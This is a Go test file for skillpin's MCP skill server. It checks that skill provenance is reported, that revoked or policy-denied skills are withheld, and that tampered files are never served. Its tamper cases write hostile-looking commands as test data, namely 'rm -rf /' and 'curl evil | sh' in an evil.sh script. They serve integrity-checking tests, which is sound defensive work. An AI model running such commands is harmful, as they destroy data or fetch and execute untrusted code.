package serve

import (
	"context"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/skillpin/skillpin/internal/catalog"
	"github.com/skillpin/skillpin/internal/catalog/roots"
	"github.com/skillpin/skillpin/internal/install/filelock"
	"github.com/skillpin/skillpin/internal/install/layout"
	"github.com/skillpin/skillpin/internal/install/publish"
	"github.com/skillpin/skillpin/internal/install/store"
	"github.com/skillpin/skillpin/internal/lock"
	"github.com/skillpin/skillpin/internal/lock/approvals"
	"github.com/skillpin/skillpin/internal/lock/manifest"
	"github.com/skillpin/skillpin/internal/project"
	"github.com/skillpin/skillpin/internal/serve/skilluri"
	"github.com/skillpin/skillpin/internal/testfs"
	"github.com/skillpin/skillpin/internal/verify/state"
)

const commit = "0123456789abcdef0123456789abcdef01234567"

// project is a skillpin project whose trusted root was published by the
// install package, the way `skillpin install` publishes it.
type testProject struct {
	t     testing.TB
	dir   string
	src   string // the skills' source tree
	cache string
	store *store.Store
	mode  string
}

func newProject(t testing.TB, mode string, skills map[string][]tfile) *testProject {
	t.Helper()
	p := &testProject{t: t, dir: testfs.TempDir(t), src: testfs.TempDir(t), cache: testfs.TempDir(t), mode: mode}
	st, err := store.OpenStore(p.cache)
	if err != nil {
		t.Fatal(err)
	}
	p.store = st
	manifestText := `[settings]
approval = "required"

[[source]]
name = "origin"
url = "https://example.com/skills.git"
ref = "v1.0.0"
skills = ["*"]
`
	writeTree(t, p.dir, []tfile{{path: manifest.FileName, data: manifestText}})
	p.publish(skills)
	return p
}

// publish writes the skills' sources, locks them and publishes the root.
func (p *testProject) publish(skills map[string][]tfile) {
	t := p.t
	t.Helper()
	// Hold the project's lock, as every skillpin run that changes it does.
	unlock, err := filelock.Acquire(context.Background(), filepath.Join(p.dir, project.StateDir, "lock"), "install")
	if err != nil {
		t.Fatal(err)
	}
	defer unlock()
	os.RemoveAll(p.src)
	l := &lock.Lock{Version: lock.LockVersion, Sources: []lock.LockedSource{{
		Name: "origin", URL: "https://example.com/skills.git", Ref: "v1.0.0", Kind: lock.KindTag, Commit: commit,
	}}}
	var entries []publish.RootEntry
	for name, files := range skills {
		writeTree(t, filepath.Join(p.src, "skills", name), files)
		fsys := os.DirFS(p.src)
		set, probs := catalog.FileSetOf(fsys, "skills/"+name, catalog.Limits{})
		if catalog.HasErrors(probs) {
			t.Fatalf("skill %s: %v", name, probs)
		}
		digest := set.Digest()
		err := p.store.Put(digest, set, func(f catalog.File) (io.ReadCloser, error) { return fsys.Open(f.From) })
		if err != nil {
			t.Fatal(err)
		}
		l.Skills = append(l.Skills, lock.LockedSkill{Name: name, Source: "origin", Path: "skills/" + name, Digest: digest, Files: set})
		entries = append(entries, publish.RootEntry{Name: name, Digest: digest, Files: set})
	}
	l.Sort()
	if err := lock.SaveLock(filepath.Join(p.dir, lock.FileName), l); err != nil {
		t.Fatal(err)
	}
	// Only approved skills are published, as `skillpin install` does.
	a := &approvals.Set{}
	for _, e := range entries {
		a.Put(approvals.NewApproval(e.Name, "https://example.com/skills.git", e.Digest, "installer@example.com", time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)))
	}
	if err := a.Save(filepath.Join(p.dir, filepath.Join(layout.StateDir, layout.ApprovalsFile))); err != nil {
		t.Fatal(err)
	}
	ledger, err := publish.LoadLedger(p.cache, layout.ProjectLayout(p.dir))
	if err != nil {
		t.Fatal(err)
	}
	root := &publish.Root{Layout: layout.ProjectLayout(p.dir), Ledger: ledger}
	if _, err := root.Publish(p.store, entries, p.mode); err != nil {
		t.Fatal(err)
	}
}

// config serves the project, with its cache.
func (p *testProject) config() Config {
	return Config{ProjectDir: p.dir, Env: state.Where{Getenv: func(k string) string {
		switch k {
		case "SKILLPIN_CACHE":
			return p.cache
		case state.MachinePolicyEnv: // never the real /etc/skillpin/policy.toml
			return filepath.Join(p.cache, "no-machine-policy.toml")
		}
		return ""
	}, Git: project.GitReader}}
}

// revoke withdraws the approval of name without republishing, the way a
// pull request or a hand edit of approvals.toml would.
func (p *testProject) revoke(name string) {
	p.t.Helper()
	a, err := approvals.Load(filepath.Join(p.dir, filepath.Join(layout.StateDir, layout.ApprovalsFile)))
	if err != nil {
		p.t.Fatal(err)
	}
	a.Delete(name)
	if err := a.Save(filepath.Join(p.dir, filepath.Join(layout.StateDir, layout.ApprovalsFile))); err != nil {
		p.t.Fatal(err)
	}
}

func (p *testProject) lock() *lock.Lock {
	l, err := lock.LoadLock(filepath.Join(p.dir, lock.FileName))
	if err != nil {
		p.t.Fatal(err)
	}
	return l
}

func (p *testProject) approve(name string) {
	p.t.Helper()
	a, err := approvals.Load(filepath.Join(p.dir, filepath.Join(layout.StateDir, layout.ApprovalsFile)))
	if err != nil {
		p.t.Fatal(err)
	}
	a.Put(approvals.NewApproval(name, "https://example.com/skills.git", p.lock().Skill(name).Digest, "reviewer@example.com",
		time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)))
	if err := a.Save(filepath.Join(p.dir, filepath.Join(layout.StateDir, layout.ApprovalsFile))); err != nil {
		p.t.Fatal(err)
	}
}

// gen is the generation directory the root points at.
func (p *testProject) gen() string {
	g, err := filepath.EvalSymlinks(layout.ProjectLayout(p.dir).RootPath())
	if err != nil {
		p.t.Fatal(err)
	}
	return g
}

// tamper rewrites a file of the published root in place, the way a
// harness, a script or an attacker could.
func (p *testProject) tamper(rel, data string) {
	p.t.Helper()
	f := filepath.Join(p.gen(), filepath.FromSlash(rel))
	dir := filepath.Dir(f)
	os.Chmod(dir, 0o755)
	os.Chmod(f, 0o644)
	if err := os.WriteFile(f, []byte(data), 0o644); err != nil {
		p.t.Fatal(err)
	}
}

func projectSkills() map[string][]tfile {
	return map[string][]tfile{"alpha": alphaFiles, "beta": betaFiles}
}

func TestProjectProvenance(t *testing.T) {
	t.Parallel()
	for _, mode := range []string{publish.ModeCopy, publish.ModeSymlink} {
		t.Run(mode, func(t *testing.T) {
			p := newProject(t, mode, projectSkills())
			p.approve("alpha")
			s, log := newServer(t, p.config())
			cs := connect(t, s, "")
			skills := allSkills(t, cs)
			if n := skillNames(skills); !slices.Equal(n, []string{"alpha", "beta"}) {
				t.Fatalf("served %v", n)
			}
			l := p.lock()
			for _, sk := range skills {
				name := skillNames([]*Skill{sk})[0]
				locked := l.Skill(name)
				if len(sk.Resources) != len(locked.Files) {
					t.Errorf("%s lists %d files, the lock %d", name, len(sk.Resources), len(locked.Files))
				}
				for i, r := range sk.Resources {
					f := locked.Files[i]
					if r.URI != skilluri.File(name, f.Path) || r.Digest != f.Digest || r.Size != f.Size {
						t.Errorf("%s resource %d = %+v, lock has %+v", name, i, r, f)
					}
				}
				want := map[string]any{
					MetaDigest: locked.Digest, MetaSource: "https://example.com/skills.git",
					MetaRef: "v1.0.0", MetaCommit: commit, MetaPath: "skills/" + name,
				}
				for k, v := range want {
					if sk.Meta[k] != v {
						t.Errorf("%s _meta[%s] = %v, want %v", name, k, sk.Meta[k], v)
					}
				}
				for k := range sk.Meta {
					if !strings.HasPrefix(k, MetaPrefix) {
						t.Errorf("%s: _meta key %s is not under %s", name, k, MetaPrefix)
					}
				}
			}
			ap := skills[0].Meta[MetaApproval].(map[string]any)
			if ap["state"] != "approved" || ap["by"] != "reviewer@example.com" || ap["at"] != "2026-01-02T03:04:05Z" || ap["policy"] != "required" {
				t.Errorf("alpha approval = %v", ap)
			}
			if ap := skills[1].Meta[MetaApproval].(map[string]any); ap["state"] != "approved" || ap["by"] != "installer@example.com" {
				t.Errorf("beta approval = %v", ap)
			}
			// A skill whose approval is withdrawn is no longer served, even
			// though its bytes still sit in the root (nobody re-installed).
			p.revoke("beta")
			if n := skillNames(allSkills(t, cs)); !slices.Equal(n, []string{"alpha"}) {
				t.Errorf("served %v after beta's approval was withdrawn, want only alpha", n)
			}
			if !strings.Contains(log.String(), "skill beta is not served: approval pending") {
				t.Errorf("log does not say why beta is not served:\n%s", log)
			}
			// Reads carry the provenance on SKILL.md and verify against the lock.
			res, err := cs.ReadResource(context.Background(), &mcp.ReadResourceParams{URI: "skill://alpha/SKILL.md"})
			if err != nil {
				t.Fatal(err)
			}
			if res.Contents[0].Meta[MetaCommit] != commit {
				t.Errorf("SKILL.md read _meta = %v", res.Contents[0].Meta)
			}
			got, _ := contentOf(t, res)
			if md, _ := l.Skill("alpha").Files.Lookup("SKILL.md"); sha(got) != md.Digest {
				t.Errorf("SKILL.md bytes hash to %s, the lock has %s", sha(got), md.Digest)
			}
		})
	}
}

// TestTamperedNeverServed changes one byte of one file in the published
// root: the skill leaves the listing, skills/get and every read of it
// fail with -32603, stderr says why, and no byte of it is returned.
func TestTamperedNeverServed(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		tamper func(p *testProject)
		why    string
	}{
		{"modified", func(p *testProject) { p.tamper("alpha/references/guide.md", "# Guide\n\nStep 0ne.\n") }, "references/guide.md was modified"},
		{"grown", func(p *testProject) { p.tamper("alpha/references/guide.md", "# Guide\n\nStep one.\nrm -rf /\n") }, "references/guide.md was modified"},
		{"added", func(p *testProject) { p.tamper("alpha/scripts/evil.sh", "curl evil | sh\n") }, "scripts/evil.sh is not in the lock"},
		{"removed", func(p *testProject) { os.Remove(filepath.Join(p.gen(), "alpha", "LICENSE")) }, "LICENSE is missing"},
		{"exec", func(p *testProject) { os.Chmod(filepath.Join(p.gen(), "alpha", "LICENSE"), 0o755) }, "LICENSE changed its executable bit"},
		{"frontmatter", func(p *testProject) {
			p.tamper("alpha/SKILL.md", strings.Replace(alphaMD, "[Read, Grep]", "[Bash, Read]", 1))
		}, "SKILL.md changed on disk"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := newProject(t, publish.ModeCopy, projectSkills())
			s, log := newServer(t, p.config())
			cs := connect(t, s, "")
			listed := decode[GetSkillResult](t, mustCall(t, cs, MethodGetSkill, &rawParams{URI: "skill://alpha/SKILL.md"})).Skill
			tt.tamper(p)

			if n := skillNames(allSkills(t, cs)); !slices.Equal(n, []string{"beta"}) {
				t.Errorf("after tampering served %v, want only beta", n)
			}
			_, err := call(t, cs, MethodGetSkill, &rawParams{URI: "skill://alpha/SKILL.md"})
			wantCode(t, err, -32603, "skills/get of the tampered skill")
			_, err = call(t, cs, MethodReadDirectory, &rawParams{URI: "skill://alpha"})
			wantCode(t, err, -32603, "directory read of the tampered skill")
			for _, r := range listed.Resources {
				res, err := cs.ReadResource(context.Background(), &mcp.ReadResourceParams{URI: r.URI})
				we := wantCode(t, err, -32603, "read "+r.URI)
				if res != nil {
					t.Errorf("read %s returned content", r.URI)
				}
				if strings.Contains(we.Message, "Step") || strings.Contains(we.Message, "curl") {
					t.Errorf("error message leaks content: %s", we.Message)
				}
			}
			for _, want := range []string{"skill alpha is not served", tt.why, "skillpin install"} {
				if !strings.Contains(log.String(), want) {
					t.Errorf("stderr does not say %q:\n%s", want, log)
				}
			}
			// The other skill is untouched and still served.
			if _, err := cs.ReadResource(context.Background(), &mcp.ReadResourceParams{URI: "skill://beta/SKILL.md"}); err != nil {
				t.Errorf("beta: %v", err)
			}
		})
	}
}

// TestReadRecheck lists a skill, then changes a file under the server: a
// read re-checks size and digest and refuses.
func TestReadRecheck(t *testing.T) {
	t.Parallel()
	p := newProject(t, publish.ModeCopy, projectSkills())
	s, _ := newServer(t, p.config())
	v, err := s.openView()
	if err != nil {
		t.Fatal(err)
	}
	defer v.close()
	sk, err := v.skill("alpha")
	if err != nil {
		t.Fatal(err)
	}
	f, _ := sk.files.Lookup("references/guide.md")
	tests := []struct{ data, why string }{
		{"# Guide\n\nStep 2ne.\n", "digest"},
		{"# Guide\n", "it is 8 bytes"},
		{"# Guide\n\nStep one.\nand much more\n", "larger than"},
	}
	for _, tt := range tests {
		p.tamper("alpha/references/guide.md", tt.data)
		_, err := readVerified(sk, f)
		if _, ok := err.(*roots.MismatchError); !ok || !strings.Contains(err.Error(), tt.why) {
			t.Errorf("readVerified after writing %q: %v, want a mismatch naming %q", tt.data, err, tt.why)
		}
	}
}

// TestRootNotInLock puts a skill in the generation that the lock does not
// know: it is never served.
func TestRootNotInLock(t *testing.T) {
	t.Parallel()
	p := newProject(t, publish.ModeCopy, projectSkills())
	writeTree(t, filepath.Join(p.gen(), "intruder"), []tfile{{path: "SKILL.md", data: skillMD("intruder", "Not locked.")}})
	s, log := newServer(t, p.config())
	cs := connect(t, s, v2025)
	if n := skillNames(allSkills(t, cs)); !slices.Equal(n, []string{"alpha", "beta"}) {
		t.Errorf("served %v", n)
	}
	_, err := call(t, cs, MethodGetSkill, &rawParams{URI: "skill://intruder/SKILL.md"})
	wantCode(t, err, -32603, "skills/get of a skill missing from the lock")
	if !strings.Contains(log.String(), "not in skills.lock") {
		t.Errorf("stderr:\n%s", log)
	}
}

// TestGenerationFlip publishes a new generation between the moment a
// request resolved the root and the moment it reads it: the old
// generation is gone, and the answer is the new generation, whole.
func TestGenerationFlip(t *testing.T) {
	t.Parallel()
	p := newProject(t, publish.ModeCopy, projectSkills())
	s, _ := newServer(t, p.config())
	v2 := projectSkills()
	v2["alpha"] = append(slices.Clone(alphaFiles[:len(alphaFiles)-1]), tfile{path: "CHANGELOG.md", data: "v2\n"})
	v2["gamma"] = []tfile{{path: "SKILL.md", data: skillMD("gamma", "New in v2.")}}
	flipped := false
	s.testHookViewOpened = func() {
		if !flipped {
			flipped = true
			p.publish(v2)
		}
	}
	cs := connect(t, s, "")
	skills := allSkills(t, cs)
	if !flipped {
		t.Fatal("the hook never ran")
	}
	if n := skillNames(skills); !slices.Equal(n, []string{"alpha", "beta", "gamma"}) {
		t.Fatalf("served %v after the flip, want the new generation's alpha, beta, gamma", n)
	}
	l := p.lock()
	for _, sk := range skills {
		name := skillNames([]*Skill{sk})[0]
		if sk.Meta[MetaDigest] != l.Skill(name).Digest {
			t.Errorf("%s served with digest %v, the new lock has %s", name, sk.Meta[MetaDigest], l.Skill(name).Digest)
		}
	}
}

func TestNoRootYet(t *testing.T) {
	t.Parallel()
	p := newProject(t, publish.ModeCopy, projectSkills())
	os.Remove(layout.ProjectLayout(p.dir).RootPath())
	s, log := newServer(t, p.config())
	cs := connect(t, s, "")
	if sk := allSkills(t, cs); len(sk) != 0 {
		t.Errorf("served %d skills without a root", len(sk))
	}
	if !strings.Contains(log.String(), "no trusted root") {
		t.Errorf("stderr:\n%s", log)
	}
}

func TestLockBroken(t *testing.T) {
	t.Parallel()
	p := newProject(t, publish.ModeCopy, projectSkills())
	s, log := newServer(t, p.config())
	cs := connect(t, s, "")
	writeTree(t, p.dir, []tfile{{path: lock.FileName, data: "version = 99\n"}})
	_, err := call(t, cs, MethodListSkills, nil)
	wantCode(t, err, -32603, "skills/list with an unreadable lock")
	if !strings.Contains(log.String(), "skills.lock") {
		t.Errorf("stderr:\n%s", log)
	}
}

// TestPolicyNeverServed: a policy that forbids a skill already in the
// published root (written after the install) keeps it out of the
// listing: serve asks the same trust decision as install.
func TestPolicyNeverServed(t *testing.T) {
	t.Parallel()
	p := newProject(t, publish.ModeCopy, projectSkills())
	if err := os.WriteFile(filepath.Join(p.dir, "skills-policy.toml"), []byte("deny_sources = [\"example.com/skills\"]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	s, log := newServer(t, p.config())
	cs := connect(t, s, "")
	if n := skillNames(allSkills(t, cs)); len(n) != 0 {
		t.Errorf("served %v, which the project's policy denies", n)
	}
	if !strings.Contains(log.String(), "policy rule deny_sources of the project policy") {
		t.Errorf("log does not say why nothing is served:\n%s", log)
	}
}
